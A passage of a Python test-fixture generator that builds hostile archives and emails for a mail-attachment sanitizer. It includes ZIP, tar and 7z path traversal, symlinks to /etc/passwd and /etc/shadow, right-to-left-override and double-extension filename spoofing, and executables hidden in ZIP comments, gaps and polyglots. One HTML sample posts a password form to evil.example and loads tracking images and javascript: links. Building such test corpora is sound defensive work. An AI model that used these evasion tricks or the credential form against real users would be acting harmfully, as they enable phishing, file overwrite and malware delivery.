                    b"</script></head><body></body></html>"),
    "js": lambda: b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc.exe");\r\n',
    "vbs": lambda: b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n',
    "wsf": lambda: (b'<?xml version="1.0"?>\r\n<job id="a"><script language="JScript">'
                    b'new ActiveXObject("WScript.Shell").Run("calc");</script></job>\r\n'),
    "chm": lambda: (b"ITSF" + struct.pack("<III", 3, 0x60, 1) + b"\x00" * 0x50
                    + b"\xfe\x01\x00\x00" + b"ITSP" + b"\x00" * 200),
    "iso": lambda: b"\x00" * 0x8000 + b"\x01CD001\x01\x00" + b"CDR-TEST".ljust(32) + b"\x00" * 2000,
    "img": lambda: (b"\xeb\x3c\x90MSDOS5.0" + struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 224,
                    2880, 0xF0, 9, 18, 2, 0, 0) + b"\x00" * (510 - 36) + b"\x55\xaa"
                    + b"\x00" * 8192),
    "one": lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\x00" * 1024,
    "xll": lambda: pe_bytes(dll=True),
    "msi": msi_bytes,
}


class ZMember:
    def __init__(self, name: bytes | str, data: bytes, *, method: int = 8, flags: int | None = None,
                 local_name: bytes | None = None, cd_extra: bytes = b"", local_extra: bytes = b"",
                 ext_attr: int = 0, made_by: int = 20, gap_after: bytes = b"",
                 local_flags: int | None = None, local_data: bytes | None = None) -> None:
        raw = name.encode("utf-8") if isinstance(name, str) else name
        self.name = raw
        self.data = data
        self.method = method
        self.flags = (0x800 if isinstance(name, str) and not name.isascii() else 0) if flags is None else flags
        self.local_name = raw if local_name is None else local_name
        self.cd_extra = cd_extra
        self.local_extra = local_extra
        self.ext_attr = ext_attr
        self.made_by = made_by
        self.gap_after = gap_after
        self.local_flags = self.flags if local_flags is None else local_flags
        self.local_data = local_data


def raw_zip(members: list[ZMember], *, comment: bytes = b"", prefix: bytes = b"",
            trailer: bytes = b"", aliases: list[tuple[bytes, int]] = (),
            eocd_count: int | None = None) -> bytes:
    """A ZIP written field by field (APPNOTE 4.3): what zipfile will not write."""
    out = bytearray(prefix)
    cd = bytearray()
    records = []
    for m in members:
        comp = m.data
        if m.method == 8:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            comp = co.compress(m.data) + co.flush()
        crc = zlib.crc32(m.data)
        local_comp = comp
        if m.local_data is not None:
            local_comp = m.local_data
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, m.local_flags, m.method, 0, 0x21, crc,
                           len(comp), len(m.data), len(m.local_name), len(m.local_extra))
        out += m.local_name + m.local_extra + local_comp + m.gap_after
        rec = (m, crc, len(comp), off)
        records.append(rec)
    for m, crc, csize, off in records:
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, m.made_by, 20, m.flags, m.method, 0,
                          0x21, crc, csize, len(m.data), len(m.name), len(m.cd_extra), 0, 0, 0,
                          m.ext_attr, off) + m.name + m.cd_extra
    for name, idx in aliases:
        m, crc, csize, off = records[idx]
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, m.made_by, 20, m.flags, m.method, 0,
                          0x21, crc, csize, len(m.data), len(name), 0, 0, 0, 0, 0, off) + name
    count = len(records) + len(aliases) if eocd_count is None else eocd_count
    cd_off = len(out)
    out += cd
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(cd), cd_off, len(comment))
    out += comment + trailer
    return bytes(out)


def std_zip(files: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(name, data)
    return buf.getvalue()


def unicode_path_extra(real: str, header_name: bytes) -> bytes:
    body = b"\x01" + struct.pack("<I", zlib.crc32(header_name)) + real.encode("utf-8")
    return struct.pack("<HH", 0x7075, len(body)) + body


def seven_zip(files: list[tuple[str, bytes]], password: str | None = None) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password=password) as z:
        if password:
            z.set_encrypted_header(False)
        for name, data in files:
            z._writestr(data, name)  # the public writestr refuses "../" names
    return buf.getvalue()


def tar_bytes(members: list[tarfile.TarInfo | tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.GNU_FORMAT) as t:
        for m in members:
            if isinstance(m, tarfile.TarInfo):
                t.addfile(m)
            else:
                info = tarfile.TarInfo(m[0])
                info.size = len(m[1])
                info.mode = 0o644
                t.addfile(info, io.BytesIO(m[1]))
    return buf.getvalue()


def tar_special(name: str, kind: bytes, link: str = "", devmajor: int = 0) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o777
    info.devmajor = devmajor
    return info


def lzh_bytes(files: list[tuple[bytes, bytes]]) -> bytes:
    """LHA level-0 headers, method -lh0- (stored)."""
    out = bytearray()
    for name, data in files:
        rest = (b"-lh0-" + struct.pack("<IIIBB", len(data), len(data), 0x5A210000, 0x20, 0)
                + bytes([len(name)]) + name + struct.pack("<H", _crc16(data)))
        out += bytes([len(rest), sum(rest) & 0xFF]) + rest + data
    out += b"\x00"
    return bytes(out)


def cab_bytes(files: list[tuple[str, bytes]]) -> bytes:
    """MS-CAB with one uncompressed folder and one CFDATA block per 32 KiB."""
    blob = b"".join(d for _, d in files)
    filerecs = bytearray()
    off = 0
    for name, data in files:
        raw = name.encode("utf-8")
        attrs = 0x20 | (0x80 if not name.isascii() else 0)
        filerecs += struct.pack("<IIHHHH", len(data), off, 0, 0x21, 0, attrs) + raw + b"\x00"
        off += len(data)
    chunks = [blob[i:i + 32768] for i in range(0, len(blob), 32768)] or [b""]
    header_len, folder_len = 36, 8
    coff_files = header_len + folder_len
    data_start = coff_files + len(filerecs)
    datablob = b"".join(struct.pack("<IHH", 0, len(c), len(c)) + c for c in chunks)
    total = data_start + len(datablob)
    header = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, total, 0, coff_files, 0, 3, 1, 1,
                         len(files), 0, 0x1234, 0)
    folder = struct.pack("<IHH", data_start, len(chunks), 0)
    return header + folder + bytes(filerecs) + datablob


# -- mail builders ------------------------------------------------------------------------------


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def mail(headers: str, body: str) -> bytes:
    return (headers.strip("\n").replace("\n", "\r\n") + "\r\n\r\n" + body.replace("\r\n", "\n").replace("\n", "\r\n")).encode("utf-8")


HDR = """From: =?UTF-8?B?5bGx55Sw?= <yamada@example.jp>
To: soumu@city.example.lg.jp
Subject: test
Date: Mon, 2 Nov 2026 10:00:00 +0900
Message-ID: <a1@example.jp>
MIME-Version: 1.0"""


def mixed(parts: list[str], boundary: str = "BOUNDARY-1", extra: str = "") -> bytes:
    body = "".join(f"--{boundary}\n{p.strip(chr(10))}\n" for p in parts) + f"--{boundary}--\n"
    return mail(HDR + f'\nContent-Type: multipart/mixed; boundary="{boundary}"' + extra, body)


TEXT_PART = "Content-Type: text/plain; charset=utf-8\n\nお世話になっております。資料を送ります。\n"


def attach(name_params: str, data: bytes, ctype: str = "application/octet-stream",
           cte: str = "base64") -> str:
    enc = b64(data) if cte == "base64" else data.decode("latin-1")
    return f"Content-Type: {ctype}\nContent-Disposition: attachment; {name_params}\nContent-Transfer-Encoding: {cte}\n\n{enc}"


def benign_mail() -> bytes:
    body_jis = "山田です。\n会議資料を送ります。\nよろしくお願いします。\n".encode("iso-2022-jp")
    subject = email.header.Header("会議資料の送付", "iso-2022-jp").encode()
    name = email.utils.encode_rfc2231("議事録.pdf", "utf-8")
    hdr = HDR.replace("Subject: test", f"Subject: {subject}")
    return (hdr.replace("\n", "\r\n") + '\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n'
            "--b1\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
            ).encode() + body_jis.replace(b"\n", b"\r\n") + (
            "\r\n--b1\r\nContent-Type: application/pdf\r\n"
            f"Content-Disposition: attachment; filename*={name}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(pdf_bytes(3, "Minutes")).replace("\n", "\r\n")
            + "--b1--\r\n").encode()


def tnef_bytes(attachments: list[tuple[str, bytes]], long_name: str | None = None) -> bytes:
    """MS-OXTNEF: signature, key, message attributes, then per attachment RendData, Title,
    Data (and, optionally, a MAPI property block with PidTagAttachLongFilename)."""

    def attr(level: int, ident: int, data: bytes) -> bytes:
        return bytes([level]) + struct.pack("<II", ident, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = struct.pack("<IH", 0x223E9F78, 0x0101)
    out += attr(1, 0x00089006, struct.pack("<I", 0x00010000))
    out += attr(1, 0x00069007, struct.pack("<II", 932, 0))
    out += attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")
    for title, data in attachments:
        out += attr(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0xFFFF, 0xFFFF, 0))
        out += attr(2, 0x00018010, title.encode("cp932") + b"\x00")
        out += attr(2, 0x0006800F, data)
        if long_name is not None:
            val = long_name.encode("utf-16-le") + b"\x00\x00"
            pad = (-len(val)) % 4
            props = struct.pack("<IIII", 1, 0x3707001F, 1, len(val)) + val + b"\x00" * pad
            out += attr(2, 0x00069005, props)
    return out


def _props(entries: list[tuple[int, bytes | int]], header: bytes) -> tuple[bytes, dict[str, bytes]]:
    fixed = bytearray(header)
    streams = {}
    for tag, value in entries:
        ptype = tag & 0xFFFF
        if isinstance(value, int):
            fixed += struct.pack("<IIQ", tag, 6, value)
        else:
            fixed += struct.pack("<IIII", tag, 6, len(value), 0)
            streams[f"__substg1.0_{tag:08X}"] = value
        del ptype
    return bytes(fixed), streams


def u16(s: str) -> bytes:
    return s.encode("utf-16-le") + b"\x00\x00"


def msg_storage(subject: str, body: str, attachments: list[dict], html: bytes | None = None,
                top: bool = True) -> dict:
    props: list[tuple[int, bytes | int]] = [
        (0x001A001F, u16("IPM.Note")), (0x0037001F, u16(subject)), (0x1000001F, u16(body)),
        (0x0C1F001F, u16("yamada@example.jp")), (0x0C1A001F, u16("山田")),
        (0x0E04001F, u16("soumu@city.example.lg.jp")), (0x3FDE0003, 65001),
    ]
    if html is not None:
        props.append((0x10130102, html))
    n = len(attachments)
    header = struct.pack("<QIIIIQ", 0, 0, n, 0, n, 0) if top else struct.pack("<QIIII", 0, 0, n, 0, n)
    fixed, streams = _props(props, header)
    st: dict = {"__properties_version1.0": fixed, **streams}
    if top:
        st["__nameid_version1.0"] = {"__substg1.0_00020102": b"", "__substg1.0_00030102": b"",
                                     "__substg1.0_00040102": b""}
    for i, a in enumerate(attachments):
        aprops: list[tuple[int, bytes | int]] = [(0x37050003, a.get("method", 1))]
        if "long" in a:
            aprops.append((0x3707001F, u16(a["long"])))
        if "short" in a:
            aprops.append((0x3704001F, u16(a["short"])))
        if "display" in a:
            aprops.append((0x3001001F, u16(a["display"])))
        if "mime" in a:
            aprops.append((0x370E001F, u16(a["mime"])))
        if "data" in a:
            aprops.append((0x37010102, a["data"]))
        afixed, astreams = _props(aprops, b"\x00" * 8)
        astore: dict = {"__properties_version1.0": afixed, **astreams}
        if "embedded" in a:
            astore["__substg1.0_3701000D"] = a["embedded"]
        st[f"__attach_version1.0_#{i:08X}"] = astore
    return st


def msg_bytes(subject: str, body: str, attachments: list[dict], html: bytes | None = None) -> bytes:
    return cfb_bytes(msg_storage(subject, body, attachments, html))


def ole10native(name: str, data: bytes) -> dict:
    label = name.encode("cp932") + b"\x00"
    path = ("C:\\Users\\a\\" + name).encode("cp932") + b"\x00"
    native = (struct.pack("<H", 2) + label + path + struct.pack("<HI", 0, 3) + path
              + struct.pack("<I", len(data)) + data + struct.pack("<I", 0) * 3)
    return {"__clsid__": bytes.fromhex("0c00030000000000c000000000000046"),
            "\x01Ole10Native": struct.pack("<I", len(native)) + native,
            "\x01Ole": b"\x01\x00\x00\x02" + b"\x00" * 16,
            "\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00" + b"\xff" * 4 + b"\x00" * 40}


# ---------------------------------------------------------------------------------------------
# hostile cases: name -> () -> (file name, bytes)
# ---------------------------------------------------------------------------------------------

TXT = "ただのテキストです。\r\n".encode()


def _zip_one(name: str, data: bytes, **kw: object) -> bytes:
    return raw_zip([ZMember("資料.pdf", pdf_bytes(1)), ZMember(name, data, **kw)])


HOSTILE: dict[str, Callable[[], tuple[str, bytes]]] = {}


def case(name: str) -> Callable[[Callable[[], tuple[str, bytes]]], Callable[[], tuple[str, bytes]]]:
    def deco(fn: Callable[[], tuple[str, bytes]]) -> Callable[[], tuple[str, bytes]]:
        HOSTILE[name] = fn
        return fn
    return deco


# names
case("zip-dotdot")(lambda: ("a.zip", _zip_one("../../../Users/Public/x.txt", TXT)))
case("zip-absolute")(lambda: ("a.zip", _zip_one("/etc/cron.d/x.txt", TXT)))
case("zip-backslash-traversal")(lambda: ("a.zip", _zip_one("..\\..\\Windows\\Temp\\x.txt", TXT)))
case("zip-cp932-yen-traversal")(lambda: ("a.zip", _zip_one(
    b"..\x5c..\x5c" + "資料.txt".encode("cp932"), TXT, flags=0)))
case("zip-fullwidth-dots")(lambda: ("a.zip", _zip_one("．．／．．／x.txt", TXT)))
case("zip-drive-letter")(lambda: ("a.zip", _zip_one("C:/Windows/x.txt", TXT)))
case("zip-nul-in-name")(lambda: ("a.zip", _zip_one(b"report.txt\x00.exe", pe_bytes())))
case("zip-nul-in-name-harmless-content")(lambda: ("a.zip", _zip_one(b"evil.hta\x00.txt", TXT)))
case("zip-rtlo-exe")(lambda: ("a.zip", _zip_one("請求書\u202efdp.exe", pe_bytes())))
case("zip-rtlo-harmless-content")(lambda: ("a.zip", _zip_one("photo\u202egpj.txt", TXT)))
case("zip-trailing-dot-space")(lambda: ("a.zip", _zip_one("invoice.exe. ", pe_bytes())))
case("zip-ntfs-ads")(lambda: ("a.zip", _zip_one("memo.txt:evil.exe", pe_bytes())))
case("zip-unicode-path-extra-exe")(lambda: ("a.zip", _zip_one(
    "readme.txt", pe_bytes(), cd_extra=unicode_path_extra("readme.exe", b"readme.txt"),
    local_extra=unicode_path_extra("readme.exe", b"readme.txt"))))
case("zip-unicode-path-extra-traversal")(lambda: ("a.zip", _zip_one(
    "readme.txt", TXT, cd_extra=unicode_path_extra("../../readme.txt", b"readme.txt"),
    local_extra=unicode_path_extra("../../readme.txt", b"readme.txt"))))
case("zip-long-name")(lambda: ("a.zip", _zip_one("/".join(["深い階層のフォルダ" * 3] * 12) + "/" + "長" * 150 + ".txt", TXT)))
case("zip-symlink")(lambda: ("a.zip", _zip_one("link.txt", b"/etc/passwd", method=0,
                                               ext_attr=(0o120777 << 16), made_by=0x0314)))
case("zip-executable-mode-txt")(lambda: ("a.zip", _zip_one("run.txt", TXT, ext_attr=(0o100755 << 16),
                                                           made_by=0x0314)))
case("zip-device-node")(lambda: ("a.zip", _zip_one("dev.txt", TXT, ext_attr=(0o020666 << 16), made_by=0x0314)))
case("zip-reserved-name")(lambda: ("a.zip", _zip_one("CON.txt", TXT)))

# structure
case("zip-lfh-name-disagrees")(lambda: ("a.zip", _zip_one("notes.txt", pe_bytes(), local_name=b"notes.exe")))
case("zip-lfh-data-disagrees")(lambda: ("a.zip", raw_zip([
    ZMember("notes.txt", TXT, method=0, local_data=pe_bytes()[:len(TXT)])])))
case("zip-lfh-encryption-flag-disagrees")(lambda: ("a.zip", _zip_one("notes.exe", pe_bytes(), flags=0, local_flags=1)))
case("zip-overlap-alias")(lambda: ("a.zip", raw_zip(
    [ZMember("資料.pdf", pdf_bytes(1)), ZMember("run.exe", pe_bytes())], aliases=[(b"copy.pdf", 1)])))
case("zip-duplicate-names")(lambda: ("a.zip", raw_zip(
    [ZMember("a.txt", TXT), ZMember("a.txt", MEMBER_PAYLOADS["vbs"]())])))
case("zip-exe-in-comment")(lambda: ("a.zip", raw_zip([ZMember("資料.pdf", pdf_bytes(1))], comment=pe_bytes()[:60000])))
case("zip-exe-in-extra")(lambda: ("a.zip", _zip_one("memo.txt", TXT, cd_extra=struct.pack("<HH", 0xCAFE, len(pe_bytes())) + pe_bytes(),
                                                    local_extra=struct.pack("<HH", 0xCAFE, len(pe_bytes())) + pe_bytes())))
case("zip-exe-in-gap")(lambda: ("a.zip", raw_zip(
    [ZMember("資料.pdf", pdf_bytes(1), gap_after=raw_zip([ZMember("hidden.exe", pe_bytes())])[:-22]),
     ZMember("memo.txt", TXT)])))
case("zip-trailing-exe")(lambda: ("a.zip", raw_zip([ZMember("資料.pdf", pdf_bytes(1))], trailer=pe_bytes())))
case("zip-trailing-second-zip")(lambda: ("a.zip", raw_zip([ZMember("資料.pdf", pdf_bytes(1))])
                                         + raw_zip([ZMember("evil.hta", MEMBER_PAYLOADS["hta"]())])))
case("zip-sfx-prefix")(lambda: ("a.zip", raw_zip([ZMember("資料.pdf", pdf_bytes(1))], prefix=pe_bytes())))
case("zip-eocd-hides-entry")(lambda: ("a.zip", raw_zip(
    [ZMember("資料.pdf", pdf_bytes(1)), ZMember("run.exe", pe_bytes())], eocd_count=1)))
case("pdf-zip-polyglot-as-pdf")(lambda: ("invoice.pdf", pdf_bytes(1) + raw_zip([ZMember("run.exe", pe_bytes())])))
case("pdf-zip-polyglot-as-zip")(lambda: ("invoice.zip", pdf_bytes(1) + raw_zip([ZMember("run.hta", MEMBER_PAYLOADS["hta"]())])))
case("ppap-aes-zip")(lambda: ("a.zip", _ppap()))


def _ppap() -> bytes:
    import pyzipper

    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as z:
        z.setpassword(b"himitsu")
        z.writestr("請求書.pdf.exe", pe_bytes())
    return buf.getvalue()


# members by type: own name, disguised under a harmless extension, double extension
for _ext, _make in MEMBER_PAYLOADS.items():
    case(f"member-{_ext}")(lambda e=_ext, m=_make: ("a.zip", _zip_one(f"file.{e}", m())))
for _ext in ("exe", "lnk", "hta", "chm", "iso", "one", "msi", "img"):
    case(f"member-{_ext}-as-pdf")(lambda e=_ext: ("a.zip", _zip_one(f"資料_{e}.pdf", MEMBER_PAYLOADS[e]())))
for _ext in ("js", "vbs", "hta", "wsf"):
    case(f"member-{_ext}-as-txt")(lambda e=_ext: ("a.zip", _zip_one(f"readme_{e}.txt", MEMBER_PAYLOADS[e]())))
case("member-double-ext-exe")(lambda: ("a.zip", _zip_one("請求書.pdf.exe", pe_bytes())))
case("member-double-ext-lnk-as-jpg")(lambda: ("a.zip", _zip_one("photo.jpg.lnk", lnk_bytes())))
case("member-exe-as-jpg")(lambda: ("a.zip", _zip_one("photo.jpg", pe_bytes())))


def _nest_zip(levels: int, bottom_name: str, bottom: bytes) -> bytes:
    data = std_zip([(bottom_name, bottom), ("ok.txt", TXT)])
    for i in range(levels):
        data = std_zip([(f"level{i}.zip", data)])
    return data


case("nested-zip-6-exe")(lambda: ("a.zip", _nest_zip(6, "deep.exe", pe_bytes())))
case("nested-zip-3-exe-as-pdf")(lambda: ("a.zip", _nest_zip(3, "deep.pdf", pe_bytes())))
case("nested-zip-30")(lambda: ("a.zip", _nest_zip(30, "deep.hta", MEMBER_PAYLOADS["hta"]())))
case("zip-in-mail-in-zip")(lambda: ("a.zip", std_zip([("fwd.eml", mixed([TEXT_PART, attach(
    'filename="inner.zip"', std_zip([("evil.hta", MEMBER_PAYLOADS["hta"]()), ("r.txt", TXT)]),
    "application/zip")]))])))
case("zip-in-mail-in-zip-rtlo")(lambda: ("a.zip", std_zip([("fwd.eml", mixed([TEXT_PART, attach(
    'filename="inner.zip"', std_zip([("写真\u202egpj.txt", TXT)]), "application/zip")]))])))

# other archive formats
case("7z-exe-traversal")(lambda: ("a.7z", seven_zip([("資料.pdf", pdf_bytes(1)), ("../../evil.exe", pe_bytes()),
                                                    ("x/../../up.txt", TXT)])))
case("7z-rtlo-and-hta")(lambda: ("a.7z", seven_zip([("資料.pdf", pdf_bytes(1)), ("請求書\u202etxt.hta", MEMBER_PAYLOADS["hta"]())])))
case("7z-encrypted")(lambda: ("a.7z", seven_zip([("請求書.exe", pe_bytes())], password="himitsu")))
case("tar-symlink-hardlink-device")(lambda: ("a.tar", tar_bytes([
    ("資料.pdf", pdf_bytes(1)), tar_special("passwd.txt", tarfile.SYMTYPE, "/etc/passwd"),
    tar_special("hard.txt", tarfile.LNKTYPE, "/etc/shadow"),
    tar_special("dev.txt", tarfile.CHRTYPE, devmajor=1), tar_special("fifo.txt", tarfile.FIFOTYPE)])))
case("tar-traversal-absolute")(lambda: ("a.tar", tar_bytes([
    ("資料.pdf", pdf_bytes(1)), ("../../../tmp/x.txt", TXT), ("/etc/x.txt", TXT)])))
case("tgz-exe-lnk")(lambda: ("a.tar.gz", tar_bytes([
    ("資料.pdf", pdf_bytes(1)), ("run.exe", pe_bytes()), ("go.lnk", lnk_bytes())], mode="w:gz")))
case("tar-symlink-then-write-through")(lambda: ("a.tar", tar_bytes([
    ("資料.pdf", pdf_bytes(1)), tar_special("dir", tarfile.SYMTYPE, "/tmp"), ("dir/x.txt", TXT)])))
case("lzh-yen-traversal-exe")(lambda: ("a.lzh", lzh_bytes([
    ("資料.txt".encode("cp932"), TXT), ("..\\..\\スタートアップ\\run.exe".encode("cp932"), pe_bytes())])))
case("lzh-hta")(lambda: ("a.lzh", lzh_bytes([("資料.txt".encode("cp932"), TXT),
                                             ("請求書.hta".encode("cp932"), MEMBER_PAYLOADS["hta"]())])))
case("cab-traversal-exe")(lambda: ("a.cab", cab_bytes([("資料.txt", TXT), ("..\\..\\run.exe", pe_bytes())])))
case("cab-lnk-as-pdf")(lambda: ("a.cab", cab_bytes([("資料.txt", TXT), ("請求書.pdf", lnk_bytes())])))

# mail
_PE = pe_bytes()
case("eml-exe")(lambda: ("m.eml", mixed([TEXT_PART, attach('filename="請求書.pdf.exe"', _PE)])))
case("eml-ctype-name-vs-filename")(lambda: ("m.eml", mixed([TEXT_PART, (
    'Content-Type: application/pdf; name="invoice.pdf"\nContent-Disposition: attachment; filename="invoice.exe"\n'
    "Content-Transfer-Encoding: base64\n\n" + b64(_PE))])))
case("eml-pdf-name-hta-content")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="invoice.pdf"', MEMBER_PAYLOADS["hta"](), "application/pdf")])))
case("eml-rfc2231-continuation-exe")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    "filename*0*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf; filename*1*=%E2%80%AE; filename*2=fdp.exe",
    _PE)])))
case("eml-rfc2231-vs-plain-filename")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    "filename=\"report.pdf\"; filename*=UTF-8''report.hta", MEMBER_PAYLOADS["hta"]())])))
case("eml-encoded-word-rtlo")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="' + email.header.Header("写真\u202egpj.exe", "utf-8").encode() + '"', _PE)])))
case("eml-encoded-word-iso2022-lnk")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="' + email.header.Header("請求書.pdf.lnk", "iso-2022-jp").encode() + '"', lnk_bytes())])))
case("eml-text-plain-named-hta")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="run.hta"', MEMBER_PAYLOADS["hta"](), "text/plain; charset=utf-8")])))
case("eml-attachment-traversal-name")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="..\\\\..\\\\Startup\\\\memo.txt"', TXT, "text/plain")])))
case("eml-x-uuencode-cte")(lambda: ("m.eml", mixed([TEXT_PART, (
    'Content-Type: application/octet-stream; name="run.exe"\nContent-Disposition: attachment; filename="run.exe"\n'
    "Content-Transfer-Encoding: x-uuencode\n\n"
    + "begin 644 run.exe\n" + "".join(binascii.b2a_uu(_PE[i:i + 45]).decode() for i in range(0, len(_PE), 45))
    + "`\nend\n")])))
case("eml-boundary-two-params")(lambda: (
    "m.eml", mail(HDR + '\nContent-Type: multipart/mixed; boundary="AAA"; boundary="BBB"', (
        "--AAA\nContent-Type: text/plain\n\nhello\n--BBB\n" + attach('filename="x.exe"', _PE)
        + "\n--BBB--\n--AAA--\n"))))
case("eml-boundary-prefix-nesting")(lambda: (
    "m.eml", mail(HDR + '\nContent-Type: multipart/mixed; boundary="b"', (
        "--b\nContent-Type: multipart/mixed; boundary=\"bb\"\n\n--bb\n" + TEXT_PART
        + "--bb\n" + attach('filename="x.hta"', MEMBER_PAYLOADS["hta"](), "text/html") + "\n--bb--\n--b--\n"))))
case("eml-no-final-boundary")(lambda: (
    "m.eml", mail(HDR + '\nContent-Type: multipart/mixed; boundary="zz"', (
        "--zz\n" + TEXT_PART + "--zz\n" + attach('filename="y.vbs"', MEMBER_PAYLOADS["vbs"]()) + "\n"))))
case("eml-uuencode-in-body")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/plain; charset=utf-8", (
    "添付します。\n\nbegin 644 invoice.exe\n"
    + "".join(binascii.b2a_uu(_PE[i:i + 45]).decode() for i in range(0, len(_PE), 45)) + "`\nend\n"))))
case("eml-yenc-in-body")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/plain; charset=utf-8", (
    "see below\n=ybegin line=128 size=10 name=run.exe\n" + "".join(chr((b + 42) % 256) if (b + 42) % 256 not in (0, 10, 13, 61) else "=" + chr((b + 106) % 256) for b in b"MZ\x90\x00abcdef") + "\n=yend size=10\n"))))
case("eml-binhex-in-body")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/plain; charset=utf-8", (
    "(This file must be converted with BinHex 4.0)\n:$f*TEQKPH#jdCA0d,R0TG!\"6594%8dP8)3#3\"!%!!!!!!!!!%!!!!!!:\n"))))
case("eml-unc-and-file-in-text")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/plain; charset=utf-8", (
    "資料はこちら: \\\\198.51.100.7\\share\\資料.xlsx\nまたは file://198.51.100.7/share/a.lnk\nFILE:///C:/x.hta\n"))))
_HTML_ATTACK = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/a.css"><style>body{background:url(http://evil.example/t.png)}</style>
<script>alert(1)</script></head><body onload="x()">
<p>請求書をご確認ください</p><img src="http://evil.example/track.png"><img src="//evil.example/p.gif">
<a href="javascript:alert(1)">open</a> <a href="jav&#x09;ascript:alert(2)">b</a>
<a href="file://198.51.100.7/share/x.lnk">share</a> <a href="\\\\198.51.100.7\\share\\a.exe">unc</a>
<a href="mailto:a@example.jp?attach=C:\\secret.txt">m</a><a href="data:text/html,<script>alert(3)</script>">d</a>
<form action="http://evil.example/login"><input name="pw" type="password"></form>
<iframe src="http://evil.example/"></iframe><object data="x.swf"></object><svg><script>alert(4)</script></svg>
<div style="background-image:url('http://evil.example/x')">x</div><table background="http://evil.example/bg.png"><tr><td>t</td></tr></table>
</body></html>"""
case("eml-html-everything")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/html; charset=utf-8", _HTML_ATTACK)))
case("eml-html-alternative-with-exe")(lambda: ("m.eml", mail(
    HDR + '\nContent-Type: multipart/alternative; boundary="alt"',
    "--alt\nContent-Type: text/plain; charset=utf-8\n\nplain\n--alt\nContent-Type: text/html; charset=utf-8\n\n"
    + _HTML_ATTACK + "\n--alt\n" + attach('filename="x.js"', MEMBER_PAYLOADS["js"](), "application/javascript")
    + "\n--alt--\n")))
case("eml-html-srcset-background")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/html; charset=utf-8", (
    '<html><body><img srcset="http://evil.example/a.png 1x"><body background="http://evil.example/b.png">'
    '<a href="  JaVaScRiPt:alert(1)">x</a><img src="cid:nothing" lowsrc="http://evil.example/l.png"></body></html>'))))
case("eml-rfc822-nested-3-exe")(lambda: ("m.eml", _nested_rfc822(3)))
case("eml-message-partial")(lambda: ("m.eml", mail(
    HDR + '\nContent-Type: message/partial; id="abc@x"; number=1; total=1',
    "Content-Type: application/octet-stream; name=\"a.exe\"\nContent-Transfer-Encoding: base64\n\n" + b64(_PE))))
case("eml-message-external-body")(lambda: ("m.eml", mixed([TEXT_PART, (
    'Content-Type: message/external-body; access-type=URL; URL="file://198.51.100.7/share/run.exe"\n\n'
    "Content-Type: application/octet-stream\n\n")])))
case("eml-header-injection-subject")(lambda: ("m.eml", mail(HDR.replace(
    "Subject: test", "Subject: =?UTF-8?B?" + base64.b64encode(
        b"hi\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>").decode() + "?="),
    "body\n")))
case("eml-extra-headers")(lambda: ("m.eml", mail(
    HDR + "\nDisposition-Notification-To: a@evil.example\nX-Mailer: evil\nList-Unsubscribe: <http://evil.example/u>\n"
    "Content-Location: file://198.51.100.7/x\nContent-Type: text/plain; charset=utf-8", "hi\n")))
case("eml-ms-tnef-exe")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="winmail.dat"', tnef_bytes([("請求書.exe", _PE), ("memo.txt", TXT)]), "application/ms-tnef")])))
case("eml-ms-tnef-lnk-title-pdf")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="winmail.dat"', tnef_bytes([("INVOICE.PDF", lnk_bytes())], long_name="請求書.pdf.lnk"),
    "application/ms-tnef")])))
case("eml-ms-tnef-long-name-exe")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="winmail.dat"', tnef_bytes([("memo.txt", TXT)], long_name="memo.txt.exe"),
    "application/ms-tnef")])))
case("msg-exe")(lambda: ("m.msg", msg_bytes("請求書", "添付をご確認ください", [
